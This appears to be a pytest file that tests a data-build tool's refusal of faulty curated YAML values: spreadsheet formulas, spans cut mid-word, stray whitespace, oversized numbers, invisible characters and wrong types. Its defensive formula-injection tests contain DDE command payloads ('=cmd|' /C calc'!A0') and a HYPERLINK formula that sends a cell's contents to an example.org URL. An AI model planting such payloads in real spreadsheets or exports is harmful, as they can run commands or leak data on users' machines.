"""Fault injection for curated values, through `python -m uis_build build` (its main(), in-process) on a
copy of the project: cells a spreadsheet would run, spans cut inside a word or a number, ids and codes
with a trailing newline, numbers a float cannot hold, invisible characters, and values of the wrong
YAML type. Each is refused with exit 1, a message naming the file, the record and the field (or the
line), no traceback, and data/ untouched."""

from __future__ import annotations

import re

import pytest

from uis_build.__main__ import main

ART0 = "annotations/articles/000_bdcf67e19c4020b3.yaml"
ART1 = "annotations/articles/001_f4d3467b4698b683.yaml"
RECORDS = "annotations/records.yaml"
SOURCES = "annotations/sources.yaml"
EXCLUSIONS = "annotations/coverage_exclusions.yaml"
NOTE = "    geography: GB\n    note: >-\n"  # the first statistic's curated fields
ORG = "    organization: Home Office\n"  # an official's curated organisation


def _build(project, capsys) -> tuple[int, str]:
    capsys.readouterr()
    status = main(["build", "--root", str(project.root)])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "This is a bug" not in err
    return status, err


def _refused(project, capsys, *patterns: str) -> str:
    before = project.snapshot()
    status, err = _build(project, capsys)
    assert status == 1, err
    for pattern in patterns:
        assert re.search(pattern, err), f"{pattern!r} not in {err!r}"
    assert "data/ was left as it was" in err
    assert project.snapshot() == before, "a failed build changed data/ or datapackage.json"
    assert not list(project.root.glob(".build-*")), "staging folder left behind"
    return err


# -- cells a spreadsheet would run ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"click")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tleading tab"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_curated_value_a_spreadsheet_would_run_is_refused(project, capsys, cell):
    project.edit_text(RECORDS, ORG, f"    organization: {_yaml(cell)}\n")
    _refused(project, capsys, re.escape(RECORDS), r"off-[a-z0-9-]+: field 'organization'", "spreadsheet runs as a formula")


@pytest.mark.parametrize("rel, old, new, field", [
    (SOURCES, "  publisher: Peregraf\n", "  publisher: \"=cmd|' /C calc'!A0\"\n", r"001-peregraf: field 'publisher'"),
    (EXCLUSIONS, "    reason: rhetorical vague quantity", "    reason: =1+2 rhetorical vague quantity",
     r"002-observer-diplomat\[0\]: field 'reason'"),
    (ART1, "    name: Yvette Cooper\n", "    name: Yvette Cooper\n    why: \"@import\"\n", r"evidence\[\d+\] \(record off-yvette-cooper\): field 'why'"),
])
def test_formula_like_text_is_refused_in_every_curated_file(project, capsys, rel, old, new, field):
    project.edit_text(rel, old, new)
    _refused(project, capsys, re.escape(rel), field, "spreadsheet runs as a formula")


def test_a_quote_starting_with_a_formula_character_is_refused(project, capsys):
    """Quotes and spans too: the curator starts the span one word earlier or later instead."""
    project.edit_seed("001", "UK Home Secretary Yvette Cooper", "=UK Home Secretary Yvette Cooper")
    project.edit_text(ART1, "    quote: UK Home Secretary Yvette Cooper\n", "    quote: \"=UK Home Secretary Yvette Cooper\"\n")
    _refused(project, capsys, re.escape(ART1), r"record off-yvette-cooper\): field 'quote'", "spreadsheet")


def test_a_draft_placeholder_left_in_a_curated_file_is_refused(project, capsys):
    """propose --draft writes "TODO: ..." where only a curator can say what goes: a build refuses it unreviewed."""
    project.edit_text(SOURCES, "  publisher: Peregraf\n", "  publisher: \"TODO: who published it\"\n")
    _refused(project, capsys, re.escape(SOURCES), r"001-peregraf: field 'publisher'", "draft's placeholder")


# -- spans cut inside a word or a number --------------------------------------------------------

@pytest.mark.parametrize("old, new, words", [
    ("    value: 728,000\n", "    value: 28,000\n", r"value span '28,000' starts inside the word or number '728,000'"),
    ("    value: 728,000\n", "    value: 728,00\n", r"value span '728,00' ends inside the word or number '728,000'"),
    ("    value: 728,000\n", "    value: \"728\"\n", r"value span '728' ends inside the word or number '728,000'"),
    ("    value: 728,000\n", "    value: {text: \"000\", occurrence: 1}\n", r"value span '000' starts inside the word or number '728,000'"),
    ("    quote: The UK and Iraq have finalized a “world-first” deal to combat",
     "    quote: he UK and Iraq have finalized a “world-first” deal to combat", r"quote 'he UK and Iraq.*starts inside the word or number 'The'"),
])
def test_a_span_cut_inside_a_word_or_number_is_refused(project, capsys, old, new, words):
    project.edit_text(ART0, old, new)
    _refused(project, capsys, re.escape(ART0), r"evidence\[\d+\] \(record [a-z0-9-]+\)", words, "word or number boundary")


def test_a_quote_ending_inside_a_word_is_refused(project, capsys):
    project.edit_text(ART1, "    quote: UK Home Secretary Yvette Cooper\n", "    quote: UK Home Secretary Yvette Coop\n")
    project.edit_text(ART1, "    name: Yvette Cooper\n", "    name: Yvette Coop\n")
    _refused(project, capsys, re.escape(ART1), r"record off-yvette-cooper", r"quote 'UK Home Secretary Yvette Coop' ends inside "
             r"the word or number 'Cooper'")


# -- ids and codes with a trailing newline; white space at either end --------------------------

@pytest.mark.parametrize("rel, old, new, expected", [
    (SOURCES, "- source_id: 001-peregraf\n", '- source_id: "001-peregraf\\n"\n', r"does not match '\^\[0-9\]\{3\}"),
    (SOURCES, "  language: en\n", '  language: "en\\n"\n', r"language: malformed annotation.*does not match"),
    (RECORDS, "  stat-gb-net-migration-ye-2023-06:\n", '  "stat-gb-net-migration-ye-2023-06\\n":\n', r"does not match '\^stat-"),
    (RECORDS, NOTE, '    geography: "GB\\n"\n    note: >-\n', r"field 'geography' starts or ends with white space"),
    (SOURCES, "  publisher: Peregraf\n", '  publisher: " Peregraf"\n', r"001-peregraf: field 'publisher' starts or ends with white space"),
])
def test_trailing_newline_or_space_in_an_id_code_or_value_is_refused(project, capsys, rel, old, new, expected):
    project.edit_text(rel, old, new)
    _refused(project, capsys, re.escape(rel), expected)


# -- numbers a float cannot hold ------------------------------------------------------------------

@pytest.mark.parametrize("amount", ["£1" + "0" * 400, "£12,345,678,901,234,567"])
def test_an_amount_a_float_cannot_hold_is_refused(project, capsys, amount):
    project.edit_seed("001", "The UK pledged £300,000 to train", f"The UK pledged {amount} to train")
    project.edit_text(ART1, "    quote: The UK pledged £300,000 to train", f"    quote: The UK pledged {amount} to train")
    project.edit_text(ART1, "    amount: £300,000\n    purpose: train", f"    amount: {amount}\n    purpose: train")
    _refused(project, capsys, re.escape(ART1), r"record fund-iq-law-enforcement-training", "field 'amount'",
             "cannot be stored as written: the tables hold finite numbers of at most 15 significant digits")


# -- a bare number whose currency nothing gives ---------------------------------------------------

def test_a_bare_number_with_no_currency_header_is_refused(project, capsys):
    """An amount cited as a bare number takes its currency only from its text-table column's header ("Value (£)"): in
    prose it is refused, saying what was expected (under a header naming none too: test_parsing)."""
    project.edit_seed("001", "The UK pledged £300,000 to train", "The UK pledged 300,000 to train")
    project.edit_text(ART1, "    quote: The UK pledged £300,000 to train", "    quote: The UK pledged 300,000 to train")
    project.edit_text(ART1, "    amount: £300,000\n    purpose: train", "    amount: '300,000'\n    purpose: train")
    _refused(project, capsys, re.escape(ART1), r"record fund-iq-law-enforcement-training", "field 'amount'",
             r"'300,000' names no currency, and it is no cell of a text table under a column header naming one "
             r"\('Value \(£\)', 'Amount \(USD\)'\): cite words that name its currency, or leave the amount out")


# -- invisible characters -------------------------------------------------------------------------

INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u200e", "\u00ad", "\U000e0041"]


@pytest.mark.parametrize("char", INVISIBLE, ids=lambda c: f"U+{ord(c):04X}")
def test_an_invisible_character_written_in_a_curated_file_is_refused_with_its_line(project, capsys, char):
    project.edit_text(RECORDS, ORG, f"    organization: Home{char} Office\n")
    _refused(project, capsys, re.escape(RECORDS), rf"U\+{ord(char):04X}", r"line \d+, column \d+")


@pytest.mark.parametrize("char", INVISIBLE, ids=lambda c: f"U+{ord(c):04X}")
def test_an_invisible_character_escaped_in_yaml_is_refused_naming_record_and_field(project, capsys, char):
    escaped = f"\\u{ord(char):04x}" if ord(char) < 0x10000 else f"\\U{ord(char):08x}"
    project.edit_text(RECORDS, ORG, f'    organization: "Home{escaped} Office"\n')
    _refused(project, capsys, re.escape(RECORDS), r"off-[a-z-]+: field 'organization'", rf"U\+{ord(char):04X}")


def test_an_escaped_control_character_is_refused(project, capsys):
    project.edit_text(RECORDS, ORG, '    organization: "Home\\x07 Office"\n')
    _refused(project, capsys, r"field 'organization' holds U\+0007")


# -- values of the wrong YAML type ----------------------------------------------------------------

@pytest.mark.parametrize("rel, old, new, expected", [
    (ART1, "    quote: UK Home Secretary Yvette Cooper\n", "    quote: UK Home Secretary Yvette Cooper\n    occurrence: 2.0\n",
     r"evidence\[\d+\] \(record off-yvette-cooper\).*occurrence: 2\.0 is not of type 'integer'"),
    (ART1, "    name: Yvette Cooper\n", "    name: {text: Yvette Cooper, occurrence: 1.0}\n", r"record off-yvette-cooper\).*name"),
    (EXCLUSIONS, "  - text: endanger thousands of lives\n", "  - text: endanger thousands of lives\n    occurrence: 1.0\n",
     r"002-observer-diplomat/0/occurrence: .*1\.0 is not of type 'integer'"),
    (ART1, "    quote: UK Home Secretary Yvette Cooper\n", "    quote: UK Home Secretary Yvette Cooper\n    occurrence: true\n",
     r"True is not of type 'integer'"),
    (RECORDS, "  stat-gb-net-migration-ye-2023-06:\n", "  5:\n    unit: persons\n  stat-gb-net-migration-ye-2023-06:\n",
     r"line \d+: has a key 5 \(int\) that is not text"),
    (RECORDS, "  stat-gb-net-migration-ye-2023-06:\n", "  yes:\n    unit: persons\n  stat-gb-net-migration-ye-2023-06:\n",
     r"has a key True \(bool\)"),
    (RECORDS, "  stat-gb-net-migration-ye-2023-06:\n", "  ~:\n    unit: persons\n  stat-gb-net-migration-ye-2023-06:\n",
     r"has a key None \(NoneType\)"),
    (EXCLUSIONS, "001-peregraf:\n", "2024-11-01: []\n001-peregraf:\n", r"has a key datetime.date\(2024, 11, 1\) \(date\)"),
    (SOURCES, "  publisher: Peregraf\n", "  publisher: 5\n", r"1/publisher: malformed annotation.*5 is not of type 'string'"),
    (SOURCES, '  reference_date: "2024-11"\n', "  reference_date: 2024-11-01\n", r"is not of type 'string', 'null'"),
    (ART1, "    name: Yvette Cooper\n", "    name: [[Yvette Cooper]]\n", r"record off-yvette-cooper\).*name"),
    (ART1, "  - record: off-yvette-cooper\n", "  - record: null\n", r"None is not of type 'string'"),
    (RECORDS, "  stat-gb-net-migration-ye-2023-06:\n", "  stat-gb-nothing:\n  stat-gb-net-migration-ye-2023-06:\n",
     r"statistics/stat-gb-nothing: malformed annotation.*None is not of type 'object'"),
])
def test_a_value_of_the_wrong_type_is_a_clear_error(project, capsys, rel, old, new, expected):
    project.edit_text(rel, old, new)
    _refused(project, capsys, re.escape(rel), expected)


# -- what stays allowed -----------------------------------------------------------------------------

def test_plain_numbers_and_article_anchors_keep_their_characters(project, capsys):
    """A plain number may start with - or + (a spreadsheet reads it as the number); the anchors of
    non-article regions keep the article's white space; the committed annotations build."""
    project.edit_text(RECORDS, ORG, '    organization: "-5"\n')
    status, err = _build(project, capsys)
    assert status == 0, err
    assert ",-5," in (project.root / "data" / "officials.csv").read_text(encoding="utf-8")


def _yaml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


# -- readings of a row itself (presence, count) ---------------------------------------------------------

ART3 = "annotations/articles/003_585aa656a7964d3b.yaml"


@pytest.mark.parametrize("rel, old, new, expected", [
    # a count no article gives for the instruments the dataset keeps as parts of the pact
    (ART3, '    count: two "important" security agreements\n', "", r"agr-border-security: no article's 'count' reading agrees .*instruments_signed \(2\)"),
    # every article reading the party as absent: the row would exist on no article's word
    ("annotations/articles/001_f4d3467b4698b683.yaml", "    presence: KRG\n", "    presence: {text: KRG, absent: true}\n", None),
    # absent belongs to presence only
    (ART3, "    date_signed: On Tuesday\n    count:", "    date_signed: {text: On Tuesday, absent: true}\n    count:",
     r"field 'date_signed': \['absent'\] do not apply to it"),
])
def test_a_row_reading_no_article_supports_is_refused(project, capsys, rel, old, new, expected):
    project.edit_text(rel, old, new)
    if expected is None:  # the other 001 reading still names it: the build goes on, the absent reading is a conflict
        status, err = _build(project, capsys)
        assert status == 0, err
        return
    _refused(project, capsys, re.escape(rel) if "do not apply" in expected else "records.yaml", expected)
